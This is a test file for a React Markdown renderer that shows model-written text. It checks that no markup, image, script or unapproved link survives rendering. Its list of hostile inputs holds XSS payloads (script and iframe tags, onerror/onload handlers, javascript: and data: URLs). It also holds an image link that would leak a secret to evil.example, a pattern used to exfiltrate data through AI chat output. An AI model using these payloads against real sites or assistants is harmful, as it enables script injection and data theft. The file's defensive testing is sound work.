// Model text can't become markup, load an image, or lead the reader away.
import * as fc from "fast-check";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Markdown } from "./markdown.tsx";

const cite = (number: number) => (number === 1 ? <b>source</b> : null);
const html = (text: string): string => renderToStaticMarkup(<Markdown text={text} />);
const linked = (text: string): string =>
  renderToStaticMarkup(<Markdown text={text} links={["https://good.example/a?b=1"]} />);
const HOSTILE = [
  "![x](https://evil.example/?q=secret)",
  "[click](https://evil.example)",
  "[click](javascript:alert(1))",
  "<img src=https://evil.example/x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<https://evil.example>",
  "https://evil.example/auto",
  "[ref]: https://evil.example\n\n[ref]",
  "| a |\n|---|\n| ![x](//evil.example) |",
  "> <iframe src=//evil.example></iframe>",
  "- <a href=//evil.example>x</a>",
  "```html\n<b onclick=x>\n```",
  "# <svg/onload=alert(1)>",
];

describe("markdown", () => {
  test("draws the usual marks", () => {
    expect(html("**bold** and `code`")).toContain("<strong");
    expect(html("1. one\n2. two")).toMatch(/<ol.*<li>.*one.*<li>.*two/);
    expect(html("| a | b |\n|---|---|\n| 1 | 2 |")).toMatch(/<th.*a.*<td.*2/);
    expect(html("a &amp; b")).toContain("a &amp; b");
  });

  test("writes a link's address as text", () => {
    const out = html("[the portal](https://evil.example)");
    expect(out).toContain("the portal");
    expect(out).toContain("(https://evil.example/)");
  });

  test("lets nothing load, run or lead away, however the pieces are put together", () => {
    const piece = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 12 }));
    const joint = fc.constantFrom("", " ", "\n", "\n\n", "> ", "- ", "**");
    fc.assert(
      fc.property(fc.array(fc.tuple(piece, joint), { maxLength: 8 }), (parts) => {
        const out = html(parts.flat().join(""));
        expect(out).not.toMatch(/<(img|a|script|iframe|svg|object|embed|link|style|form)[\s>/]/i);
        const tags = out.match(/<[^>]*>/g) ?? [];
        expect(tags.filter((tag) => /\s(href|src|on\w+|style)\s*=/i.test(tag))).toEqual([]);
      }),
    );
  });

  test("an address leads somewhere only where the server says that a source does, whole", () => {
    for (const text of [
      "https://good.example/a?b=1",
      "<https://good.example/a?b=1>",
      "[here](https://good.example/a?b=1)",
      "[here][1]\n\n[1]: https://good.example/a?b=1",
    ])
      expect(linked(text)).toContain('href="https://good.example/a?b=1"');
    for (const text of [
      ...HOSTILE,
      "[a](https://good.example/a?b=1&c=2)",
      "[a](https://good.example/a?b=1#c)",
      "[https://good.example/a?b=1](https://evil.example/)",
      "![a](https://good.example/a?b=1)",
      '<a href="https://good.example/a?b=1" ping="https://evil.example">x</a>',
      "[a](data:text/html;base64,PHNjcmlwdD4=)",
      "[a](JaVaScRiPt:alert(1))",
      "[a](//good.example/a?b=1)",
    ]) {
      const out = linked(text);
      expect(out).not.toMatch(/href="(?!https:\/\/good\.example\/a\?b=1")/);
      expect(out).not.toMatch(/<(img|script|iframe|svg|object|embed|link|style|form)[\s>/]/i);
    }
  });

  test("writes a host that looks like another in ASCII", () => {
    expect(html("[the bank](https://bаnk.example/)")).toContain("https://xn--");
    expect(html("https://bаnk.example/login")).toContain("https://xn--");
  });

  test("makes a cited number what the caller draws, and leaves others as text", () => {
    const out = renderToStaticMarkup(<Markdown text="so [1], but not [9]" cite={cite} />);
    expect(out).toContain("<b>source</b>");
    expect(out).toContain("not [9]");
  });
});
